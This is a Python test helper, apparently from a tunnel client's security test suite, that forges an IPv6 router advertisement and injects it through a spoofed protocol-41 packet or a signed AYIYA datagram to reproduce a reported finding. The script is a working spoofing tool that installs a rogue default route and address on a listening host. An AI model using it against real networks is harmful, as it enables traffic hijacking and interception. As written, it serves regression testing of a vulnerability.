#!/usr/bin/env python3
"""Test helper (issue 20, finding 2): a router advertisement from the far
side of a tunnel, forged by whoever can spoof the PoP's IPv4 source.

Runs as root in a namespace with a route to the client.

    ra_spoof.py p41 SRC4 DST4 DST6
        one raw IPv4 packet, protocol 41, from SRC4 (the PoP's address) to
        DST4, holding the RA to DST6
    ra_spoof.py ayiya SRC4 DST4 DPORT PASSWORD IDENTITY6 DST6
        one UDP datagram from SRC4:5072 to DST4:DPORT (raw, so that the
        PoP simulator's socket on 5072 does not matter), a signed AYIYA
        forward of the RA to DST6

The RA: from fe80::1, hop limit 255, router lifetime 1800 s, preference
high, with a prefix information option for 2001:db8:5::/64 (on-link and
autonomous): what makes a host that listens install a default route and a
SLAAC address.  Standard library only.
"""
import ipaddress
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sim"))
import ayiya  # noqa: E402

RA_SOURCE = ipaddress.IPv6Address("fe80::1")
RA_PREFIX = ipaddress.IPv6Address("2001:db8:5::")


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def router_advert(dst6):
    src, dst = RA_SOURCE.packed, ipaddress.IPv6Address(dst6).packed
    # type 134, code 0, checksum, cur hop limit 64, flags: preference high (01 << 3),
    # router lifetime 1800, reachable 0, retransmit 0
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0)
    # prefix information: type 3, length 4 (32 bytes), /64, L and A, valid, preferred
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + RA_PREFIX.packed
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst + body


def ipv4(src4, dst4, proto, payload):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x5EED, 0, 64, proto, 0,
                      socket.inet_aton(src4), socket.inet_aton(dst4))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + payload


def send_raw(dst4, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(packet, (dst4, 0))
    s.close()


def main(argv):
    if len(argv) == 5 and argv[1] == "p41":
        src4, dst4, dst6 = argv[2:5]
        send_raw(dst4, ipv4(src4, dst4, 41, router_advert(dst6)))
        return 0
    if len(argv) == 8 and argv[1] == "ayiya":
        src4, dst4, dport, password, ident, dst6 = argv[2:8]
        data = ayiya.build(password, ipaddress.IPv6Address(ident).packed, int(time.time()),
                           ayiya.OP_FORWARD, ayiya.NH_IPV6, router_advert(dst6))
        # UDP checksum 0: allowed over IPv4
        udp = struct.pack("!HHHH", 5072, int(dport), 8 + len(data), 0) + data
        send_raw(dst4, ipv4(src4, dst4, 17, udp))
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
